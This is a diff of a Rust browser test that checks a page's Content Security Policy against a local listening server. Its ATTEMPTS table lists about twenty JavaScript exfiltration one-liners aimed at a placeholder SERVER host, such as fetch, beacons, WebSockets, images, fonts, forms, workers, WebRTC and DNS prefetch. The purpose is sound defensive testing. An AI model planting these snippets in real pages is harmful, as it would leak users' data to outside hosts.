@@ -2,6 +2,7 @@
 
 use serde_json::Value;
 
+use crate::listener::Listener;
 use crate::recordings::{choose, pascal};
 use crate::session;
 
@@ -30,6 +31,7 @@ async fn a_recording_causes_no_request_but_for_the_pages_own_files() {
     for request in after {
         assert!(!request.url.contains('?'), "{request:?} carries data");
     }
+    assert_eq!(aftermath.names, Vec::<String>::new(), "names were looked up");
     eprintln!("{} requests to load, {} after", position.unwrap_or_default(), after.len());
 }
 
@@ -57,45 +59,110 @@ return null;"#;
 
 #[tokio::test(flavor = "multi_thread")]
 #[ignore = "needs Chromium: cargo verify --only build --only e2e"]
-async fn the_policy_blocks_what_would_leave_the_page() {
+async fn every_way_out_of_the_page_is_blocked_and_a_listening_server_hears_nothing() {
+    let listener = Listener::start();
+    let server = listener.clone();
     let aftermath = session::run(|page| async move {
-        for (attempt, directive) in ATTEMPTS {
-            let blocked: String = page.eval_async(&violation(attempt)).await;
-            assert_eq!(blocked, directive, "{attempt}");
+        let mut surprises = Vec::new();
+        for (name, attempt, expected) in ATTEMPTS {
+            let script = tried(&attempt.replace("SERVER", &server.address));
+            let told: String = page.eval_async(&script).await;
+            let heard = server.heard();
+            if told != expected || !heard.is_empty() {
+                surprises.push((name, told, heard));
+            }
         }
+        assert!(surprises.is_empty(), "{surprises:#?}");
+        page.eval::<Value>(LOOK_UP).await;
+        tokio::time::sleep(std::time::Duration::from_secs(2)).await;
+        let handles = page.browser.windows().await.unwrap();
+        assert_eq!(handles.len(), 1, "a window was opened");
         let refusals = page.console().await;
         assert!(!refusals.is_empty(), "the console tells of no violation");
     })
     .await;
-    let left = aftermath.requests.iter().find(|r| r.url.contains("example.org"));
+    let server = &listener.address;
+    let left = aftermath.requests.iter().find(|request| request.url.contains(server));
     assert_eq!(left, None);
+    // No policy of a page forbids this one: docs/page.md says so, and the test above that the page doesn't do it.
+    assert!(aftermath.names.iter().any(|name| name.contains("hidden-in-a-name")));
+    assert_eq!(listener.heard(), Vec::<String>::new());
 }
 
-/// Ways out of the page, and the directive that blocks each.
-const ATTEMPTS: [(&str, &str); 4] = [
+/// Has the browser look up a name, in which data could be hidden.
+const LOOK_UP: &str = r#"
+const href = "http://hidden-in-a-name.example.org/";
+document.head.append(Object.assign(document.createElement("link"), { rel: "dns-prefetch", href }));
+return null;"#;
+
+/// Ways out of the page by name, a script that takes each with data to `SERVER`, and what is told of it: the directive
+/// that blocks it, or what is missing for it.
+const ATTEMPTS: [(&str, &str, &str); 20] = [
     (
-        r#"fetch("https://example.org/", { method: "POST", body: "x" }).catch(() => 0)"#,
+        "fetch",
+        r#"fetch("http://SERVER/", { method: "POST", body: "x" }).catch(() => 0)"#,
         "connect-src",
     ),
-    (r#"navigator.sendBeacon("https://example.org/", "x")"#, "connect-src"),
-    (r#"new Image().src = "https://example.org/?x""#, "img-src"),
     (
-        r#"document.head.append(Object.assign(document.createElement("script"), { src: "https://example.org/" }))"#,
-        "script-src-elem",
+        "XMLHttpRequest",
+        r#"const r = new XMLHttpRequest(); r.open("POST", "http://SERVER/"); r.send("x")"#,
+        "connect-src",
     ),
+    ("beacon", r#"navigator.sendBeacon("http://SERVER/", "x")"#, "connect-src"),
+    ("WebSocket", r#"new WebSocket("ws://SERVER/?x")"#, "connect-src"),
+    ("EventSource", r#"new EventSource("http://SERVER/?x")"#, "connect-src"),
+    (
+        "ping of a link",
+        r##"const a = Object.assign(document.createElement("a"), { href: "#", ping: "http://SERVER/?x" });
+        document.body.append(a); a.click(); a.remove()"##,
+        "connect-src",
+    ),
+    ("image", r#"new Image().src = "http://SERVER/?x""#, "img-src"),
+    ("favicon", r#"add("link", { rel: "icon", href: "http://SERVER/?x" })"#, "img-src"),
+    ("sound", r#"new Audio("http://SERVER/?x").load()"#, "media-src"),
+    ("script", r#"add("script", { src: "http://SERVER/?x" })"#, "script-src-elem"),
+    ("module", r#"import("http://SERVER/?x").catch(() => 0)"#, "script-src-elem"),
+    ("style", r#"add("link", { rel: "stylesheet", href: "http://SERVER/?x" })"#, "style-src-elem"),
+    ("font", r#"new FontFace("x", "url(http://SERVER/?x)").load().catch(() => 0)"#, "font-src"),
+    ("frame", r#"add("iframe", { src: "http://SERVER/?x" })"#, "frame-src"),
+    ("plug-in", r#"add("object", { data: "http://SERVER/?x" })"#, "object-src"),
+    (
+        "form",
+        r#"add("form", { action: "http://SERVER/?x", method: "post" }).submit()"#,
+        "form-action",
+    ),
+    ("worker", r#"new Worker("http://SERVER/?x")"#, "SecurityError"),
+    (
+        "import in a worker",
+        r#"new Worker(URL.createObjectURL(new Blob(["importScripts('http://SERVER/?x')"])))"#,
+        "worker-src",
+    ),
+    (
+        "WebRTC",
+        r#"const peer = new RTCPeerConnection({ iceServers: [{ urls: "stun:SERVER" }] });
+        peer.createDataChannel("x"); peer.createOffer().then((offer) => peer.setLocalDescription(offer))"#,
+        "TypeError",
+    ),
+    ("window", r#"window.open("http://SERVER/?x")"#, "TypeError"),
 ];
 
-/// A script that does something forbidden and answers with the directive that forbade it.
-fn violation(attempt: &str) -> String {
+/// A script that takes a way out of the page, and answers with the directive that forbade it or the error's name; with
+/// `nothing` where neither comes.
+fn tried(attempt: &str) -> String {
     format!(
         r#"const done = arguments[arguments.length - 1];
+const add = (kind, values) => {{
+    const element = Object.assign(document.createElement(kind), values);
+    document.body.append(element);
+    return element;
+}};
 document.addEventListener(
     "securitypolicyviolation",
     (event) => done(event.effectiveDirective),
     {{ once: true }},
 );
-setTimeout(() => done("nothing"), 5000);
-{attempt};"#
+setTimeout(() => done("nothing"), 4000);
+try {{ {attempt}; }} catch (error) {{ done(error.name); }}"#
     )
 }
 
